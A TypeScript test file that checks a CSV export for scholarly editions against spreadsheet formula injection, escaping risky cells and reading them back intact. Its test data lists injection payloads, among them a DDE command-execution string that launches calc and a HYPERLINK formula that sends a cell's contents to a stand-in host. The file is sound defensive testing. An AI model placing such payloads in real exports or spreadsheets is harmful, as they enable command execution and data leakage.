import { describe, expect, it } from 'vitest';
import { documentsTable } from '../../src/formats/citation/documents-table.ts';
import { plainCell, safeCell } from '../../src/model/spreadsheet-cell.ts';
import { parseCsv } from '../../src/import/metadata.ts';
import { chance } from '../harness/chance.ts';
import { readFiles } from '../harness/edition.ts';
import { tei } from '../harness/letters.ts';

/** No cell of a table is computed by the spreadsheet that opens it. */

const formulas = [
  '=1+1', '+1', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '  +cmd', '"=1', "'=1", ' "\'@x', '＝1', '＋1', '－1', '＠x',
  '\u00a0=1', '=HYPERLINK("http://x/?"&A1,"y")', '=cmd|\'/C calc\'!A0', '-2+3+cmd|x', '−1', '\t', '-', '=',
]; // prettier-ignore

describe('A cell that begins like a formula', () => {
  it.each(formulas)('%j is plain text, and reads back', (text) => {
    const cell = safeCell(text);
    expect(cell).toBe(`'${text}`);
    expect(plainCell(cell)).toBe(text);
  });

  it('other text stays as it is', () => {
    for (const text of ['', '12', 'a=b', '1-2', '’tis', "'quoted'", 'Smith, J.', '(-1)', '–5', '§ 3'])
      expect([safeCell(text), plainCell(text)]).toEqual([text, text]);
  });

  it('a negative number is a number where the column is one of numbers', () => {
    expect(safeCell('-5', true)).toBe('-5');
    expect(safeCell('-5.25', true)).toBe('-5.25');
    expect(safeCell('-5+cmd', true)).toBe("'-5+cmd");
    expect(safeCell('-5')).toBe("'-5");
  });

  it('every text reads back', () => {
    const luck = chance(15);
    const signs = [...'=+-@\t\r\n\'" aä1＝'];
    for (let i = 0; i < 5000; i++) {
      const text = Array.from({ length: luck.below(6) }, () => luck.pick(signs)).join('');
      expect(plainCell(safeCell(text))).toBe(text);
      expect(plainCell(safeCell(text, true))).toBe(text);
    }
  });
});

it('the table of documents holds no formula, and all its words', () => {
  const { edition } = readFiles({
    'a.xml': tei(
      `<div type="document" xml:id="d1" n="=1+1"><head>=HYPERLINK("http://x")</head><pb n="-3"/><p>a</p></div>
<div type="document" xml:id="d2" n="-2"><head>@home, "quoted"</head><p>b</p></div>`,
    ),
  });
  const content = documentsTable(edition).content as string;
  const [head, ...rows] = parseCsv(content.slice(1));
  const titles = rows.map((row) => row[head!.indexOf('title')]);
  expect(titles).toEqual([`'=HYPERLINK("http://x")`, `'@home, "quoted"`]);
  expect(titles.map((title) => plainCell(title!))).toEqual(['=HYPERLINK("http://x")', '@home, "quoted"']);
  expect(rows.flat().filter((cell) => /^[=+@\t\r]|^-(?!\d+$)/.test(cell))).toEqual([]);
});
